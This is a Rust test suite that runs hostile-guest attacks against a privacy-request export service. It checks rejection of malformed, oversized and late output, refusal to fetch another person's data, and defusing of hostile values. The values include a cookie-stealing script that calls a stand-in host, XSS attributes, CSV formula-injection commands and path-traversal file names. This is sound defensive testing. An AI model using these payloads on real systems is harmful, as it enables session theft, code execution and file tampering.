//! What a guest hands over: it is looked at before anybody else gets to see it.

use std::collections::BTreeMap;

use serde_json::{Value, json};

use super::harness::{Attack, Contained, attack};
use super::mallory::{Ended, Mallory};
use crate::support::package::unzip;
use crate::support::upstream::{Gate, Reply, Upstream};

pub(crate) const ATTACKS: [Attack; 8] = [
    attack!("output/no-array", |world| {
        let ended = world.mallory().await.attack("output/no-array").await;
        no_package(&ended);
        let said = "expected an array of objects, found an object at byte 0 of 8";
        ended.fails("malformed_response", said)
    }),
    attack!("output/many-records", |world| {
        let ended = world.mallory().await.attack("output/many-records").await;
        no_package(&ended);
        let said = "the run found more than 45000 records";
        ended.fails("limit_reached", said)
    }),
    attack!("output/deep", |world| {
        let ended = world.mallory().await.attack("output/deep").await;
        no_package(&ended);
        let said = "expected an array of objects, found nesting that is too deep at byte 133 of \
                    200009";
        ended.fails("malformed_response", said)
    }),
    attack!("output/duplicate-keys", |world| {
        let ended = world.mallory().await.attack("output/duplicate-keys").await;
        no_package(&ended);
        let said = "expected an array of objects, found an object with a duplicate key at byte 40 \
                    of 60";
        ended.fails("malformed_response", said)
    }),
    attack!("output/active-values", |world| {
        let mallory = world.mallory().await;
        let mut connection = mallory.connection("output/active-values");
        connection["config"]["records"] = json!(active_values().to_string());
        mallory.connect(&connection).await;
        let ended = mallory.request("access").await;
        nothing_active(&package(&mallory, &ended).await);
        ended.completes("defused")
    }),
    attack!("output/other-subject", |world| {
        let (mallory, upstream) = (world.mallory().await, Upstream::start().await);
        upstream.on("GET", "/people", |_| Reply::json(r#"[{"email": "victim@x.example"}]"#));
        let mut connection = mallory.connection("output/other-subject");
        connection["config"]["origin"] = json!(upstream.url(""));
        mallory.connect(&connection).await;
        let ended = mallory.request("access").await;
        assert_eq!(upstream.calls().len(), 0, "nobody was asked for somebody else");
        no_package(&ended);
        let said = "the request differs from the planned one with its label";
        let asked = ended.fails("not_planned", said);
        Contained::all([asked, nothing_of_the_run_before(&world.mallory().await).await])
    }),
    attack!("output/lie", |world| {
        let mallory = world.mallory().await;
        mallory.connect(&mallory.connection("output/lie")).await;
        let ended = mallory.request("delete").await;
        let task = &ended.request["tasks"][0];
        assert_eq!(task["finding"]["verified"], false, "{task:#}");
        assert_eq!(task["queries"], json!([]), "{task:#}");
        assert_eq!(ended.request["problems"][0]["code"], "unverified", "an operator is told");
        ended.completes("unverified")
    }),
    attack!("output/late", |world| {
        let (mallory, upstream, gate) =
            (world.mallory().await, Upstream::start().await, Gate::new());
        let answer = Reply::json(r#"[{"a": 1}]"#).held_by(&gate);
        upstream.on("GET", "/people", move |_| answer.clone());
        let mut connection = mallory.connection("output/late");
        connection["config"]["origin"] = json!(upstream.url(""));
        connection["job_timeout_seconds"] = json!(1);
        mallory.connect(&connection).await;
        let ended = mallory.request("access").await;
        gate.open();
        no_package(&ended);
        ended.fails("deadline_passed", "The time for the work is over.")
    }),
];

/// Two people one after the other: the second run must find nothing that the first one knew.
async fn nothing_of_the_run_before(mallory: &Mallory<'_>) -> Contained {
    mallory.connect(&mallory.connection("output/left-behind")).await;
    let first = mallory.request("access").await.completes("nothing_left");
    let began = std::time::Instant::now();
    let id = mallory.submit_for("access", "victim@x.example").await;
    let second = mallory.end_of(&id, began).await.completes("nothing_left");
    Contained::all([first, second])
}

#[track_caller]
fn no_package(ended: &Ended) {
    assert!(ended.request["package"].is_null(), "{:#}", ended.request);
    let task = &ended.request["tasks"][0];
    assert!(task["finding"].is_null(), "{task:#}");
}

async fn package(mallory: &Mallory<'_>, ended: &Ended) -> BTreeMap<String, Vec<u8>> {
    let path = format!("/v1/privacy-requests/{}/package", ended.id());
    unzip(mallory.client().get_bytes(&path).await)
}

/// Values and keys that do something to who opens them, or to the file system.
fn active_values() -> Value {
    json!([{
        "html": "<script>fetch('https://x.example/' + document.cookie)</script>",
        "attribute": "\" onmouseover=\"alert(1)",
        "formula": "=HYPERLINK(\"https://x.example/\", \"click\")",
        "command": "+cmd|' /C calc'!A0",
        "at": "@SUM(1+1)*cmd|' /C calc'!A0",
        "minus": "-2+3+cmd|' /C calc'!A0",
        "../../../etc/cron.d/x": "../../../../tmp/x",
        "..\\..\\x": "C:\\x",
        "<img src=x onerror=alert(1)>": "x",
        "=1+1": "x",
        "new\r\nline": "a\r\nb\u{0}c",
    }])
}

fn nothing_active(files: &BTreeMap<String, Vec<u8>>) {
    let names: Vec<_> = files.keys().map(String::as_str).collect();
    assert_eq!(names, ["hostile/1.csv", "hostile/1.json", "index.html", "manifest.json"]);
    let csv = std::str::from_utf8(&files["hostile/1.csv"]).unwrap();
    let mut cells = csv.split([',', '\n']).map(|cell| cell.trim_start_matches('"'));
    assert!(!cells.any(|cell| cell.starts_with(['=', '+', '-', '@'])), "{csv}");
    let page = std::str::from_utf8(&files["index.html"]).unwrap();
    for active in ["<script>fetch", "<img src=x", "\" onmouseover=\""] {
        assert!(!page.contains(active), "{active}");
    }
}
